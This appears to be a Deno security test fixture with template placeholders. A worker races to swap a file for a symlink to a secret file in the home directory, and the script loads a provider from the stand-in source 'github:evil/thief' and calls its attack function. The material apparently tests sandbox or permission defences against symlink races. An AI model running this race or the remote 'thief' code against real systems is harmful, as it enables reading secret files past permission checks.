Deno.mkdirSync('own');
Deno.writeTextFileSync('own/free.txt', 'free');

// Another program, played by a worker here, swaps a file for a link to what is secret and back.
import { getProvider } from 'prizm';
const swap = new Worker(URL.createObjectURL(new Blob([`
  const { own, home } = ${JSON.stringify({ own: '{{dir}}/own', home: '{{home}}' })};
  postMessage('started');
  for (;;) {
    try { Deno.removeSync(own + '/free.txt'); } catch {}
    Deno.symlinkSync(home + '/free.txt', own + '/free.txt');
    Deno.writeTextFileSync(own + '/new.txt', 'free');
    Deno.renameSync(own + '/new.txt', own + '/free.txt');
  }
`])), { type: 'module' });
await new Promise((resolve) => swap.onmessage = resolve);
const provider: any = await getProvider('github:evil/thief');
for (const line of await provider.attack({ dir: '{{dir}}' })) console.log(line);
swap.terminate();
Deno.exit(0);
